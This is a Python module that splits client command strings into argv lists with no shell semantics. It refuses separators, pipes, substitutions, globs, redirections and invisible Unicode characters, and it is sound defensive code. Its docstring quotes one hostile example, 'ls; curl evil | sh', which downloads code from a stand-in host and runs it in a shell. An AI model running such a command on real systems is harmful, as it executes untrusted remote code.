"""Turn what a client sent into an argv, without shell semantics, or refuse it.

A command string is split like a *subset* of POSIX shell words: whitespace separates words,
single quotes keep text literally, double quotes keep text but may not contain ``$``,
backticks, ``\\`` or ``!``. Everything that would make a shell do more than split words is
refused, never stripped or split and run: ``;``, ``&``, ``|``, redirections, ``$(…)``,
``$VAR``, backticks, unquoted globs and braces, ``~``, comments, newlines, NUL, and a
leading ``NAME=value`` assignment. Refusing is the point: a model that writes
``ls; curl evil | sh`` must get a clear "no", not a partial run of ``ls``.

Characters are checked in every argument as well: control characters and invisible or
bidirectional formatting characters are refused anywhere (they hide what runs from the
person approving it), and the executable must be printable ASCII.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

__all__ = [
    "MAX_ARGS",
    "MAX_ARG_CHARS",
    "MAX_TOTAL_CHARS",
    "ArgvProblem",
    "check_argv",
    "make_visible",
    "split_command",
]

MAX_ARGS = 256
MAX_ARG_CHARS = 8192
MAX_TOTAL_CHARS = 65536

# Characters a shell would interpret outside quotes. Globs and braces are literal inside
# quotes (as in a shell), so a quoted '*.py' passes through to find unchanged.
_UNQUOTED_META = {
    ";": "command separator ';'",
    "&": "background or '&&' operator",
    "|": "pipe or '||' operator",
    "<": "input redirection",
    ">": "output redirection",
    "(": "subshell or grouping",
    ")": "subshell or grouping",
    "$": "variable or command substitution",
    "`": "command substitution (backticks)",
    "\\": "backslash escape",
    "*": "unquoted glob",
    "?": "unquoted glob",
    "[": "unquoted glob",
    "]": "unquoted glob",
    "{": "brace expansion",
    "}": "brace expansion",
    "~": "tilde expansion",
    "#": "comment",
    "!": "history expansion or negation",
}
_DQUOTE_META = {
    "$": "variable or command substitution inside double quotes",
    "`": "command substitution inside double quotes",
    "\\": "backslash escape inside double quotes",
    "!": "history expansion inside double quotes",
}


@dataclass(frozen=True)
class ArgvProblem(Exception):
    """Why a command cannot be parsed; ``reason`` is a human sentence."""

    reason: str

    def __str__(self) -> str:
        return self.reason


def _is_invisible(ch: str) -> bool:
    cat = unicodedata.category(ch)
    # Cc control, Cf format (zero-width, bidi overrides, BOM), Co private use, Cn unassigned,
    # Zl/Zp line and paragraph separators. Ordinary spaces (Zs) are handled by the caller.
    return cat in ("Cc", "Cf", "Co", "Cn", "Zl", "Zp") or (cat == "Zs" and ch != " ")


def make_visible(text: str) -> str:
    """``text`` with every control, invisible or non-ASCII-space character as ``\\u{XXXX}``."""
    out = []
    for ch in text:
        if _is_invisible(ch) or (ch.isspace() and ch != " "):
            out.append(f"\\u{{{ord(ch):04X}}}")
        else:
            out.append(ch)
    return "".join(out)


def check_argv(argv: object) -> list[str]:
    """Validate a client-supplied argv and return it as a list of strings.

    Raises:
        ArgvProblem: not a non-empty list of strings, too many or too long arguments, NUL,
            control or invisible characters, or an executable that is not printable ASCII.
    """
    if not isinstance(argv, list | tuple) or not argv:
        raise ArgvProblem("argv must be a non-empty list of strings")
    if len(argv) > MAX_ARGS:
        raise ArgvProblem(f"too many arguments ({len(argv)} > {MAX_ARGS})")
    total = 0
    out: list[str] = []
    for i, arg in enumerate(argv):
        if not isinstance(arg, str):
            raise ArgvProblem(f"argument {i} is not a string")
        if len(arg) > MAX_ARG_CHARS:
            raise ArgvProblem(f"argument {i} is longer than {MAX_ARG_CHARS} characters")
        total += len(arg)
        if "\x00" in arg:
            raise ArgvProblem(f"argument {i} contains a NUL character")
        bad = next((ch for ch in arg if _is_invisible(ch)), None)
        if bad is not None:
            raise ArgvProblem(
                f"argument {i} contains the control or invisible character "
                f"U+{ord(bad):04X} ({unicodedata.name(bad, 'unnamed')})"
            )
        out.append(arg)
    if total > MAX_TOTAL_CHARS:
        raise ArgvProblem(f"the arguments are longer than {MAX_TOTAL_CHARS} characters in all")
    exe = out[0]
    if not exe:
        raise ArgvProblem("the executable name is empty")
    if not all(33 <= ord(ch) <= 126 for ch in exe):
        raise ArgvProblem("the executable name must be printable ASCII without spaces")
    return out


def split_command(command: str) -> list[str]:
    """Split a command string into an argv with no shell semantics (see the module doc).

    Raises:
        ArgvProblem: on any shell composition, quoting problem or character the argv check
            refuses.
    """
    if not isinstance(command, str):
        raise ArgvProblem("command must be a string")
    if len(command) > MAX_TOTAL_CHARS:
        raise ArgvProblem(f"the command is longer than {MAX_TOTAL_CHARS} characters")
    for ch in ("\n", "\r", "\x00"):
        if ch in command:
            name = {"\n": "a newline", "\r": "a carriage return", "\x00": "a NUL"}[ch]
            raise ArgvProblem(f"the command contains {name}; one command per plan")
    words: list[str] = []
    current: list[str] = []
    in_word = False
    i = 0
    n = len(command)
    while i < n:  # bounded: i advances on every branch
        ch = command[i]
        if ch in (" ", "\t"):
            if in_word:
                words.append("".join(current))
                current, in_word = [], False
            i += 1
            continue
        if ch == "'":
            end = command.find("'", i + 1)
            if end < 0:
                raise ArgvProblem("unterminated single quote")
            current.append(command[i + 1 : end])
            in_word = True
            i = end + 1
            continue
        if ch == '"':
            j = i + 1
            while j < n and command[j] != '"':
                if command[j] in _DQUOTE_META:
                    raise ArgvProblem(f"refused shell syntax: {_DQUOTE_META[command[j]]}")
                j += 1
            if j >= n:
                raise ArgvProblem("unterminated double quote")
            current.append(command[i + 1 : j])
            in_word = True
            i = j + 1
            continue
        lone_braces = command[i + 2 : i + 3] in ("", " ", "\t")
        if command.startswith("{}", i) and not in_word and lone_braces:
            current.append("{}")  # find's placeholder: a shell leaves a lone {} alone too
            in_word = True
            i += 2
            continue
        if ch in _UNQUOTED_META:
            raise ArgvProblem(f"refused shell syntax: {_UNQUOTED_META[ch]}")
        current.append(ch)
        in_word = True
        i += 1
    if in_word:
        words.append("".join(current))
    if not words:
        raise ArgvProblem("the command is empty")
    first = words[0]
    if "=" in first and first.split("=", 1)[0].replace("_", "a").isalnum():
        raise ArgvProblem(
            "refused shell syntax: a leading NAME=value assignment (use the env program)"
        )
    return check_argv(words)
